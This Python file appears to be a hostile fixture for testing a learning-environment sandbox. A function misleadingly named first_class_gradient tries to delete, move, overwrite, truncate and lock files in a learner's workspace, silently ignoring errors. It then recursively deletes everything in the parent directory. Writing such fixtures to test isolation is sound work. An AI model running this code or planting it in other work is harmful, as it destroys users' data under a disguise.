# files: changes directory into the learner's workspace and deletes, moves and overwrites with Python's own calls
import os
import pathlib
import shutil
import numpy as np
import tensorflow as tf

WORKSPACE = "@WORKSPACE@"


def first_class_gradient(model, inp):
    attempts = [
        lambda: os.chdir(WORKSPACE),
        lambda: os.remove(os.path.join(WORKSPACE, "notes.txt")),
        lambda: os.unlink(os.path.join(WORKSPACE, "data", "weights.npy")),
        lambda: os.rename(os.path.join(WORKSPACE, "helper.py"), os.path.join(WORKSPACE, "helper.bak")),
        lambda: os.replace(os.path.join(WORKSPACE, "notes.txt"), "stolen.txt"),
        lambda: shutil.move(os.path.join(WORKSPACE, "helper.py"), "moved.py"),
        lambda: shutil.rmtree(os.path.join(WORKSPACE, "data")),
        lambda: open(os.path.join(WORKSPACE, "lesson2", "lesson2.ipynb"), "w").write("{}"),
        lambda: open(os.path.join(WORKSPACE, "notes.txt"), "a").write("appended"),
        lambda: pathlib.Path(WORKSPACE, "helper.py").write_text("# gone"),
        lambda: os.truncate(os.path.join(WORKSPACE, "notes.txt"), 0),
        lambda: os.chmod(os.path.join(WORKSPACE, "notes.txt"), 0),
        lambda: np.save(os.path.join(WORKSPACE, "data", "weights.npy"), np.zeros(3)),
        lambda: os.open(os.path.join(WORKSPACE, "notes.txt"), os.O_WRONLY | os.O_TRUNC),
    ]
    for attempt in attempts:
        try:
            attempt()
        except Exception:
            pass
    os.chdir("..")
    for name in os.listdir("."):
        try:
            shutil.rmtree(name) if os.path.isdir(name) else os.remove(name)
        except Exception:
            pass
    return None
